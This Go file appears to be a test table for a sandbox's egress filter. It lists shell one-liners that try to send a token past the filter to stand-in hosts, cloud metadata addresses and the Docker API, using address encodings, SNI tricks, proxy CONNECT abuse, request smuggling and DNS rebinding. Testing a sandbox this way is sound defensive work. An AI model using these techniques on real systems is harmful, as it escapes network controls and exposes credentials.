//go:build linux

package bypass

import (
	"encoding/hex"
	"fmt"
	"net/netip"
	"slices"
)

// control is where an attempt has to succeed, to show that it is one.
type control string

const (
	// allowed: in a sandbox of the same provider whose policy allows every public address.
	allowed control = "allowed"
	// unenforced: without a sandbox, as root, beside the world's servers, with an open proxy
	// where the sandbox has its own, and sockets that take everything at the paths of the
	// link's and the engine's.
	unenforced control = "not enforced"
	// outside: the same, in the network namespace that the tests were started in.
	outside control = "outside"
	// neighbour: in the other sandbox, whose things are wanted.
	neighbour control = "neighbour"
)

// attempt is one row of the table.
type attempt struct {
	group, name string
	what        string // that it tries, for people
	sh          string // a script for sh, after prelude
	ctl         control

	within  string // the token counts at these addresses only: it may arrive elsewhere
	refused bool   // what it asks for first does harm by itself, and must not be had
	reads   bool   // what is wanted is to be read, and would be in the output
	lacks   bool   // this machine's kernel may not have what is tried
	alone   bool   // runs after all others: it disturbs
}

// prefix is where the token of an attempt counts; the zero Prefix is everywhere.
func (a attempt) prefix() netip.Prefix {
	if a.within == "" {
		return netip.Prefix{}
	}
	return netip.MustParsePrefix(a.within)
}

// prelude is before every script. The variables are those of variables.
const prelude = `PATH=$TOOLS:$PATH; export PATH
P=127.0.0.1:15001
victim() { if [ -n "$PID1" ]; then echo "$PID1"; else attempt victim; fi; }
send() { attempt tcp "$IP:443" "$T"; }
direct() { env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u all_proxy -u ALL_PROXY curl -sS -m 5 "$@"; }
http() { attempt tcp good.example:80 "$@"; }
`

// table returns all attempts, each with a number that is its own. Names, addresses and the
// token of an attempt come from that.
func table() []attempt {
	rows := slices.Concat(addressRows(), nameRows(), tlsRows(), proxyRows(), httpRows(), dnsRows(), packetRows(), kernelRows(), processRows(), linkRows(), readRows())
	for i := range rows {
		if rows[i].ctl == "" {
			rows[i].ctl = allowed
		}
	}
	return rows
}

// number is that of a row in one of several series, each of which makes the attempts once.
func number(series, n int) int { return 1000*series + n }

// token is what must not arrive. It has no meaning, and is of one length.
func token(n int) string { return fmt.Sprintf("tkq%05d", n) }

// variables are those of a script: T is the token; IP, IP6 and EVIL are addresses and a name
// that are nobody else's, the next ones are spellings of IP.
func variables(n int) []string {
	ip := evilAddr(n).As4()
	v := map[string]string{
		"N": fmt.Sprint(n), "T": token(n), "IP": evilAddr(n).String(), "IP6": evilAddr6(n).String(),
		"EVIL": fmt.Sprintf("evil%d.test", n), "UPPER": fmt.Sprintf("EVIL%d.TEST", n),
		"DEC": fmt.Sprint(uint32(ip[0])<<24 | uint32(ip[1])<<16 | uint32(ip[2])<<8 | uint32(ip[3])),
		"HEX": "0x" + hex.EncodeToString(ip[:]), "OCT": fmt.Sprintf("0%o.0%o.0%o.0%o", ip[0], ip[1], ip[2], ip[3]),
		"SHORT": fmt.Sprintf("%d.%d", ip[0], uint32(ip[1])<<16|uint32(ip[2])<<8|uint32(ip[3])),
		"NAT64": "64:ff9b::" + netip.AddrFrom4(ip).String(), "SIXTO4": fmt.Sprintf("2002:%x%02x:%x%02x::1", ip[0], ip[1], ip[2], ip[3]),
	}
	var out []string
	for name, value := range v {
		out = append(out, name+"="+value)
	}
	return out
}

func addressRows() []attempt {
	const g = "Addresses"
	return []attempt{
		{group: g, name: "raw-tls", what: "TLS to an address", sh: `attempt tls plain $IP:443 $EVIL $T`},
		{group: g, name: "raw-tls-allowed-sni", what: "TLS to an address, with an allowed name in SNI", sh: `attempt tls plain $IP:443 good.example $T`},
		{group: g, name: "raw-http", what: "HTTP to an address", sh: `direct http://$IP/$T`},
		{group: g, name: "raw-http-allowed-host", what: "HTTP to an address, with an allowed Host", sh: `direct -H 'Host: good.example' http://$IP/$T`},
		{group: g, name: "decimal", what: "the address in decimal", sh: `direct http://$DEC/$T`},
		{group: g, name: "hexadecimal", what: "the address in hexadecimal", sh: `direct http://$HEX/$T`},
		{group: g, name: "octal", what: "the address in octal", sh: `direct http://$OCT/$T`},
		{group: g, name: "two-parts", what: "the address in two parts", sh: `direct http://$SHORT/$T`},
		{group: g, name: "mapped", what: "an IPv4-mapped IPv6 address", sh: `direct -g "http://[::ffff:$IP]/$T"`},
		{group: g, name: "ipv6", what: "an IPv6 address", sh: `direct -g "http://[$IP6]/$T"`, ctl: unenforced},
		{group: g, name: "nat64", what: "the address behind NAT64", sh: `attempt tcp "[$NAT64]:80" "$T"`, ctl: unenforced},
		{group: g, name: "6to4", what: "the address behind 6to4", sh: `attempt tcp "[$SIXTO4]:80" "$T"`, ctl: unenforced},
		{group: g, name: "raw-ssh", what: "SSH to an address", sh: `attempt tcp $IP:22 "SSH-2.0-$T\r\n"`},
		{group: g, name: "raw-postgres", what: "another protocol to an address", sh: `attempt tcp $IP:5432 "$T"`},
		{group: g, name: "raw-8443", what: "another port of an address", sh: `attempt tls plain $IP:8443 good.example $T`},
		{group: g, name: "raw-25", what: "mail to an address", sh: `attempt tcp $IP:25 "HELO $T\r\n"`},
		{group: g, name: "raw-capture-port", what: "another machine's port 15001", sh: `attempt tcp $IP:15001 "GET http://x/$T HTTP/1.1\r\n\r\n"`},
		{group: g, name: "raw-socks", what: "a SOCKS proxy at an address", sh: `direct -x socks5h://$IP:1080 http://$T.test/`},
		{group: g, name: "raw-proxy", what: "an HTTP proxy at an address", sh: `direct -x http://$IP:3128 http://$EVIL/$T`},
		{group: g, name: "unused-stub-address", what: "an address of the stub's block that stands for no name", sh: `attempt tcp 198.19.200.200:443 "$T"`, ctl: unenforced},
		{group: g, name: "zero", what: "0.0.0.0, which is this machine", sh: `attempt tcp 0.0.0.0:8080 "$T"`, ctl: unenforced},
		{group: g, name: "loopback", what: "a service on the host's 127.0.0.1", sh: `attempt tcp 127.0.0.1:8080 "$T"`, ctl: unenforced},
		{group: g, name: "loopback6", what: "a service on the host's ::1", sh: `attempt tcp "[::1]:8080" "$T"`, ctl: unenforced},
		{group: g, name: "metadata", what: "169.254.169.254", sh: `direct http://169.254.169.254/latest/$T`, ctl: unenforced},
		{group: g, name: "metadata-decimal", what: "169.254.169.254 in decimal", sh: `direct http://2852039166/latest/$T`, ctl: unenforced},
		{group: g, name: "metadata-ecs", what: "169.254.170.2", sh: `direct http://169.254.170.2/$T`, ctl: unenforced},
		{group: g, name: "metadata-cgnat", what: "100.100.100.200", sh: `direct http://100.100.100.200/$T`, ctl: unenforced},
		{group: g, name: "metadata6", what: "fd00:ec2::254", sh: `direct -g "http://[fd00:ec2::254]/$T"`, ctl: unenforced},
		{group: g, name: "bridge", what: "the engine's API at the address of its bridge", sh: `direct http://172.17.0.1:2375/$T`, ctl: unenforced},
		{group: g, name: "private", what: "private addresses", sh: `for a in 10.0.0.1 172.16.0.1 192.168.1.1; do direct http://$a/$T; done`, ctl: unenforced},
		{group: g, name: "own-public", what: "the host at a public address of its own", sh: `attempt tcp ` + ownAddr + `:80 "GET /$T HTTP/1.1\r\nHost: x\r\n\r\n"`, ctl: unenforced},
		{group: g, name: "host-services", what: "a service at every address of the host", sh: `for a in $HOSTS; do case $a in *:*) a="[$a]";; esac; attempt tcp $a:$PORT "$T"; attempt udp $a:$PORT "$T"; done`, ctl: outside},
		{group: g, name: "bound-to-lo", what: "a socket bound to the interface", sh: `attempt dial lo $IP:443 "$T"`},
		{group: g, name: "bound-to-loopback", what: "a connection from 127.0.0.1", sh: `attempt dial loopback $IP:443 "$T"`, ctl: unenforced},
		{group: g, name: "dontroute", what: "a socket that uses no route", sh: `attempt dial dontroute $IP:443 "$T"`, ctl: unenforced},
		{group: g, name: "mark", what: "a socket with a mark that rules might let through", sh: `attempt dial mark $IP:443 "$T"`, ctl: unenforced},
		{group: g, name: "transparent", what: "a socket with a foreign source address", sh: `attempt dial transparent $IP:443 "$T"`, ctl: unenforced},
		{group: g, name: "freebind", what: "a source address of the stub's block", sh: `attempt dial freebind $IP:443 "$T"`, ctl: unenforced},
		{group: g, name: "fastopen", what: "data in the first packet (TCP fast open)", sh: `attempt dial fastopen $IP:443 "$T"`},
		{group: g, name: "multipath", what: "multipath TCP", sh: `attempt dial mptcp $IP:443 "$T"`},
	}
}

// bad is a name that is allowed, at an address that nobody may dial.
func bad(addr string) string {
	return "addr-" + hex.EncodeToString(netip.MustParseAddr(addr).AsSlice()) + ".bad.example"
}

func nameRows() []attempt {
	const g = "Names"
	rows := []attempt{
		{group: g, name: "denied", what: "a denied name, by the proxy of the environment", sh: `curl -sS -m 5 http://$EVIL/$T`},
		{group: g, name: "denied-https", what: "the same over https", sh: `curl -sS -k -m 5 https://$T.$EVIL/`},
		{group: g, name: "noproxy", what: "a denied name with --noproxy '*'", sh: `curl -sS -m 5 --noproxy '*' http://$EVIL/$T`},
		{group: g, name: "unset", what: "a denied name with no proxy in the environment", sh: `direct http://$EVIL/$T`},
		{group: g, name: "empty-environment", what: "a denied name from an empty environment", sh: `env -i /usr/bin/curl -sS -m 5 http://$EVIL/$T`},
		{group: g, name: "other-proxy", what: "another proxy in the environment", sh: `http_proxy=http://$IP:3128 curl -sS -m 5 http://$EVIL/$T`},
		{group: g, name: "preload", what: "with LD_PRELOAD", sh: `LD_PRELOAD=libm.so.6 direct http://$EVIL/$T`},
		{group: g, name: "static", what: "system calls of a static program, past every hook of a library", sh: `attempt tcp $EVIL:80 "GET /$T HTTP/1.1\r\nHost: $EVIL\r\n\r\n"`},
		{group: g, name: "trailing-dot", what: "a dot at the end", sh: `direct http://$EVIL./$T`},
		{group: g, name: "upper-case", what: "capitals", sh: `direct http://$UPPER/$T`},
		{group: g, name: "prefix", what: "an allowed name with a letter before it", sh: `direct http://xgood.example/$T`},
		{group: g, name: "suffix", what: "an allowed name as the beginning of another", sh: `direct http://good.example.$EVIL/$T`},
		{group: g, name: "no-dot", what: "an allowed name grown to the right", sh: `direct http://good.examplex/$T`},
		{group: g, name: "below-exact", what: "a name below one that is allowed without a wildcard", sh: `direct http://$T.good.example/`},
		{group: g, name: "wildcard-no-dot", what: "a wildcard's name with a letter before it", sh: `direct http://xwild.example/$T`},
		{group: g, name: "wildcard-suffix", what: "a wildcard's name as the beginning of another", sh: `direct http://a.wild.example.$EVIL/$T`},
		{group: g, name: "homograph", what: "letters that look alike (IDN)", sh: `attempt tcp xn--gd-jmca.example:80 "GET /$T HTTP/1.1\r\nHost: xn--gd-jmca.example\r\n\r\n"`},
		{group: g, name: "wide-dot", what: "a dot of another script", sh: `attempt tcp $P "GET http://$EVIL。good.example/$T HTTP/1.1\r\nHost: good.example\r\n\r\n"`, ctl: unenforced},
		{group: g, name: "user-info", what: "an allowed name as the user of a URL", sh: `curl -sS -m 5 http://good.example@$EVIL/$T`},
		{group: g, name: "pinned", what: "an allowed name at another address (--resolve)", sh: `direct --resolve good.example:80:$IP http://good.example/$T`},
		{group: g, name: "connect-to", what: "an allowed name at another address (--connect-to)", sh: `direct --connect-to good.example:80:$IP:80 http://good.example/$T`},
		{group: g, name: "denied-port", what: "an allowed name at another port", sh: `attempt tls plain good.example:8443 good.example $T`},
		{group: g, name: "denied-port-low", what: "an allowed name at a port of another's rule", sh: `attempt tcp good.example:5432 "$T"`},
		{group: g, name: "default-port-of-port-rule", what: "port 443 of a name that is allowed at 5432 only", sh: `attempt tls plain port.example:443 port.example $T`},
		{group: g, name: "ssh-denied", what: "SSH to a denied name", sh: `attempt tcp $EVIL:22 "SSH-2.0-$T\r\n"`},
		{group: g, name: "ssh-through-proxy", what: "SSH to a denied name through the proxy", sh: `attempt tcp $P "CONNECT $EVIL:22 HTTP/1.1\r\nHost: $EVIL:22\r\n\r\n" "SSH-2.0-$T\r\n"`},
		{group: g, name: "git-protocol", what: "a denied name at git's port", sh: `attempt tcp $EVIL:9418 "0030git-upload-pack /$T"`},
		{group: g, name: "hosts-file", what: "an allowed name for another address in /etc/hosts", sh: `cp /etc/hosts . && echo "$IP good.example" >> /etc/hosts && direct http://good.example/$T; cat hosts > /etc/hosts`, ctl: unenforced, alone: true},
		{group: g, name: "other-resolver", what: "another server in resolv.conf, and a name that it knows", sh: `cp /etc/resolv.conf . ; echo "nameserver 8.8.8.8" > /etc/resolv.conf 2>/dev/null; attempt tcp $T.$EVIL:80 "$T"; cat resolv.conf > /etc/resolv.conf 2>/dev/null`, ctl: unenforced, alone: true},
		{group: g, name: "rebinding", what: "a name that is private when it is asked for again", sh: `for i in 1 2; do attempt tcp $N.rebind.example:80 "GET /$T HTTP/1.1\r\nHost: $N.rebind.example\r\n\r\n"; done`, ctl: unenforced, within: private + "/32"},
		{group: g, name: "rebinding-proxy", what: "the same through the proxy", sh: `for i in 1 2; do attempt tcp $P "GET http://$N.rebind.example/$T HTTP/1.1\r\nHost: $N.rebind.example\r\nConnection: close\r\n\r\n"; done`, ctl: unenforced, within: private + "/32"},
		{group: g, name: "mixed-answer", what: "a name with a private and a public address", sh: `attempt tcp $N.mixed.example:22 "SSH-2.0-$T\r\n"`, ctl: unenforced, within: private + "/32"},
		{group: g, name: "alias", what: "an alias (CNAME) of a private name", sh: `attempt tcp $N.chain.example:22 "SSH-2.0-$T\r\n"`, ctl: unenforced},
	}
	for _, r := range []struct{ name, what, addr string }{
		{"name-of-loopback", "127.0.0.1", "127.0.0.1"},
		{"name-of-metadata", "169.254.169.254", "169.254.169.254"},
		{"name-of-private", "10.0.0.1", "10.0.0.1"},
		{"name-of-bridge", "172.17.0.1", "172.17.0.1"},
		{"name-of-cgnat", "100.64.0.1", "100.64.0.1"},
		{"name-of-zero", "0.0.0.0", "0.0.0.0"},
		{"name-of-stub", "198.18.0.1", "198.18.0.1"},
		{"name-of-reserved", "240.0.0.1", "240.0.0.1"},
		{"name-of-own", "a public address of the host", ownAddr},
		{"name-of-loopback6", "::1", "::1"},
		{"name-of-unique-local", "fd00:ec2::254", "fd00:ec2::254"},
		{"name-of-mapped", "::ffff:127.0.0.1", "::ffff:127.0.0.1"},
		{"name-of-nat64", "127.0.0.1 behind NAT64", "64:ff9b::7f00:1"},
		{"name-of-6to4", "169.254.169.254 behind 6to4", "2002:a9fe:a9fe::1"},
	} {
		rows = append(rows, attempt{
			group: g, name: r.name, what: "an allowed name that resolves to " + r.what, ctl: unenforced,
			sh: `attempt tcp ` + bad(r.addr) + `:22 "SSH-2.0-$T\r\n"`,
		})
	}
	return rows
}

func tlsRows() []attempt {
	const g = "TLS"
	return []attempt{
		{group: g, name: "sni-denied", what: "a denied name in SNI at an allowed one's address", sh: `attempt tls plain good.example:443 $EVIL $T`},
		{group: g, name: "sni-sibling", what: "another name of the same wildcard in SNI", sh: `attempt tls plain a.wild.example:443 b.wild.example $T`},
		{group: g, name: "sni-none", what: "no SNI", sh: `attempt tls none good.example:443 x $T`},
		{group: g, name: "sni-empty", what: "an empty SNI", sh: `attempt tls plain good.example:443 "" $T`},
		{group: g, name: "sni-twice", what: "two SNI extensions, the denied one last", sh: `attempt tls twice good.example:443 good.example/$EVIL $T`},
		{group: g, name: "sni-twice-first", what: "two SNI extensions, the denied one first", sh: `attempt tls twice good.example:443 $EVIL/good.example $T`},
		{group: g, name: "sni-list", what: "two names in one SNI extension", sh: `attempt tls list good.example:443 good.example/$EVIL $T`},
		{group: g, name: "sni-nul", what: "a NUL in SNI behind the allowed name", sh: `attempt tls plain good.example:443 "good.example\x00.$EVIL" $T`},
		{group: g, name: "sni-space", what: "a space in SNI behind the allowed name", sh: `attempt tls plain good.example:443 "good.example $EVIL" $T`},
		{group: g, name: "sni-dot", what: "a dot at the end of SNI", sh: `attempt tls plain good.example:443 $EVIL. $T`},
		{group: g, name: "sni-upper-case", what: "a denied name in capitals", sh: `attempt tls plain good.example:443 $UPPER $T`},
		{group: g, name: "sni-address", what: "an address in SNI", sh: `attempt tls plain good.example:443 $IP $T`},
		{group: g, name: "sni-below", what: "a name below the allowed one in SNI", sh: `attempt tls plain good.example:443 $T.good.example $T`},
		{group: g, name: "hello-in-records", what: "a ClientHello in two records, cut in the denied name", sh: `attempt tls records good.example:443 $EVIL $T`},
		{group: g, name: "hello-in-segments", what: "a ClientHello octet by octet", sh: `attempt tls slow good.example:443 $EVIL $T`},
		{group: g, name: "hello-v2", what: "the ClientHello of SSL 2", sh: `attempt tls v2 good.example:443 $EVIL $T`},
		{group: g, name: "hello-ech", what: "a denied name beside an extension of ECH", sh: `attempt tls grease good.example:443 $EVIL $T`},
		{group: g, name: "hello-second", what: "a second ClientHello with a denied name", sh: `attempt tls after good.example:443 good.example/$EVIL $T`},
		{group: g, name: "hello-second-ccs", what: "the same behind a change of cipher", sh: `attempt tls ccs good.example:443 good.example/$EVIL $T`},
		{group: g, name: "sni-at-80", what: "TLS with a denied name at port 80", sh: `attempt tls plain good.example:80 $EVIL $T`},
		{group: g, name: "sni-at-22", what: "TLS with a denied name at port 22", sh: `attempt tls plain good.example:22 $EVIL $T`},
		{group: g, name: "sni-at-5432", what: "TLS with a denied name at a port of a rule", sh: `attempt tls plain port.example:5432 $EVIL $T`},
		{group: g, name: "tls-where-requests", what: "TLS to a name of which certain plain requests are allowed", sh: `attempt tls plain api.example:80 api.example $T`},
		{group: g, name: "http-at-443", what: "plain HTTP at port 443", sh: `attempt tcp good.example:443 "GET /$T HTTP/1.1\r\nHost: good.example\r\n\r\n"`},
		{group: g, name: "ssh-at-443", what: "SSH at port 443", sh: `attempt tcp good.example:443 "SSH-2.0-$T\r\n"`},
		{group: g, name: "other-at-443", what: "what is neither at port 443", sh: `attempt tcp good.example:443 "\x00\x01$T"`},
		{group: g, name: "fake-record", what: "what begins like TLS and is not", sh: `attempt tcp good.example:443 "\x16\x03\x01\x00\x20$T$T$T$T$T$T$T"`},
		{group: g, name: "data-record", what: "a record of data before any ClientHello", sh: `attempt tcp good.example:443 "\x17\x03\x03\x00\x0c$T$T"`},
		{group: g, name: "alert-record", what: "an alert before any ClientHello", sh: `attempt tcp good.example:443 "\x15\x03\x01\x00\x0c$T$T"`},
		{group: g, name: "ssh-at-80", what: "SSH at port 80", sh: `http "SSH-2.0-$T\r\n"`},
		{group: g, name: "tls-in-http", what: "TLS with a denied name behind a request", sh: `attempt tcp good.example:80 "GET / HTTP/1.1\r\nHost: good.example\r\n\r\n" "\x16\x03\x01\x00\x0c$T$T"`},
	}
}

func proxyRows() []attempt {
	const g = "The proxy"
	connect := func(to, host string) string {
		return `attempt tcp $P "CONNECT ` + to + ` HTTP/1.1\r\nHost: ` + host + `\r\n\r\n" "$T"`
	}
	get := func(url, host string) string {
		return `attempt tcp $P "GET ` + url + ` HTTP/1.1\r\nHost: ` + host + `\r\nConnection: close\r\n\r\n"`
	}
	return []attempt{
		{group: g, name: "connect-denied", what: "CONNECT to a denied name", sh: connect("$EVIL:443", "$EVIL:443")},
		{group: g, name: "connect-denied-host-allowed", what: "CONNECT to a denied name with an allowed Host", sh: connect("$EVIL:443", "good.example:443")},
		{group: g, name: "connect-inner-sni", what: "CONNECT to an allowed name, TLS for a denied one", sh: `attempt tls connect $P good.example:443/$EVIL $T`},
		{group: g, name: "connect-inner-http", what: "CONNECT to an allowed name, plain HTTP for a denied one", sh: `attempt tcp $P "CONNECT good.example:80 HTTP/1.1\r\nHost: good.example\r\n\r\n" "GET / HTTP/1.1\r\nHost: $T.$EVIL\r\n\r\n"`},
		{group: g, name: "connect-inner-connect", what: "CONNECT within a CONNECT", sh: `attempt tcp $P "CONNECT good.example:80 HTTP/1.1\r\nHost: good.example\r\n\r\n" "CONNECT $T.$EVIL:443 HTTP/1.1\r\nHost: x\r\n\r\n"`},
		{group: g, name: "connect-address", what: "CONNECT to an address", sh: connect("$IP:443", "$IP:443")},
		{group: g, name: "connect-decimal", what: "CONNECT to an address in decimal", sh: connect("$DEC:443", "good.example"), ctl: unenforced},
		{group: g, name: "connect-hexadecimal", what: "CONNECT to an address in hexadecimal", sh: connect("$HEX:443", "good.example"), ctl: unenforced},
		{group: g, name: "connect-mapped", what: "CONNECT to an IPv4-mapped address", sh: connect("[::ffff:$IP]:443", "good.example")},
		{group: g, name: "connect-ipv6", what: "CONNECT to an IPv6 address", sh: connect("[$IP6]:443", "good.example")},
		{group: g, name: "connect-metadata", what: "CONNECT to 169.254.169.254", sh: connect("169.254.169.254:80", "good.example"), ctl: unenforced},
		{group: g, name: "connect-loopback", what: "CONNECT to a service of the host", sh: connect("127.0.0.1:2375", "good.example"), ctl: unenforced},
		{group: g, name: "connect-loopback6", what: "CONNECT to a service of the host at ::1", sh: connect("[::1]:2375", "good.example"), ctl: unenforced},
		{group: g, name: "connect-other-port", what: "CONNECT to another port of an allowed name", sh: connect("good.example:8443", "good.example:8443")},
		{group: g, name: "connect-nul", what: "a NUL in the name of CONNECT", sh: connect(`$EVIL\x00.good.example:443`, "good.example"), ctl: unenforced},
		{group: g, name: "connect-percent", what: "%00 in the name of CONNECT", sh: connect(`$EVIL%00.good.example:443`, "good.example"), ctl: unenforced},
		{group: g, name: "connect-user", what: "an allowed name as the user of CONNECT", sh: connect(`good.example@$EVIL:443`, "good.example"), ctl: unenforced},
		{group: g, name: "get-denied", what: "a request for a denied URL", sh: get("http://$EVIL/$T", "$EVIL")},
		{group: g, name: "get-denied-host-allowed", what: "a denied URL with an allowed Host", sh: get("http://$EVIL/$T", "good.example")},
		{group: g, name: "get-allowed-host-denied", what: "an allowed URL with a denied Host", sh: get("http://good.example/", "$T.$EVIL"), ctl: unenforced},
		{group: g, name: "get-address", what: "a URL with an address", sh: get("http://$IP/$T", "good.example")},
		{group: g, name: "get-mapped-metadata", what: "a URL with a mapped metadata address", sh: get("http://[::ffff:169.254.169.254]/$T", "good.example"), ctl: unenforced},
		{group: g, name: "get-nul", what: "a NUL in the name of a URL", sh: get(`http://$EVIL\x00.good.example/$T`, "good.example"), ctl: unenforced},
		{group: g, name: "get-user", what: "an allowed name as the user of a URL", sh: get(`http://good.example@$EVIL/$T`, "good.example"), ctl: unenforced},
		{group: g, name: "get-port-443", what: "plain HTTP to port 443 of an allowed name", sh: get("http://good.example:443/$T", "good.example:443")},
		{group: g, name: "get-other-port", what: "a URL with another port of an allowed name", sh: get("http://good.example:8080/$T", "good.example:8080")},
		{group: g, name: "get-second", what: "a second request on the connection, for a denied URL", sh: `attempt tcp $P "GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n" "GET http://$EVIL/$T HTTP/1.1\r\nHost: $EVIL\r\n\r\n"`},
		{group: g, name: "get-after-connect", what: "a request to the proxy within a tunnel", sh: `attempt tcp $P "CONNECT good.example:80 HTTP/1.1\r\nHost: good.example\r\n\r\n" "GET http://$T.$EVIL/ HTTP/1.1\r\nHost: $T.$EVIL\r\n\r\n"`},
		{group: g, name: "get-smuggled", what: "a request hidden behind two lengths", sh: `attempt tcp $P "POST http://good.example/ HTTP/1.1\r\nHost: good.example\r\nContent-Length: 67\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://$T.$EVIL/ HTTP/1.1\r\nHost: $T.$EVIL\r\n\r\n"`, ctl: unenforced},
		{group: g, name: "get-upgrade", what: "a WebSocket to a denied URL", sh: `attempt tcp $P "GET http://$EVIL/$T HTTP/1.1\r\nHost: $EVIL\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"`},
		{group: g, name: "get-denied-path", what: "a path that a rule of requests does not allow", sh: get("http://api.example/v2/$T", "api.example")},
		{group: g, name: "get-denied-method", what: "a method that a rule of requests does not allow", sh: `attempt tcp $P "POST http://api.example/v1/x HTTP/1.1\r\nHost: api.example\r\nContent-Length: 10\r\nConnection: close\r\n\r\n$T"`},
		{group: g, name: "get-path-dots", what: "dots that lead out of an allowed path", sh: get("http://api.example/v1/%2e%2e/v2/$T", "api.example")},
	}
}
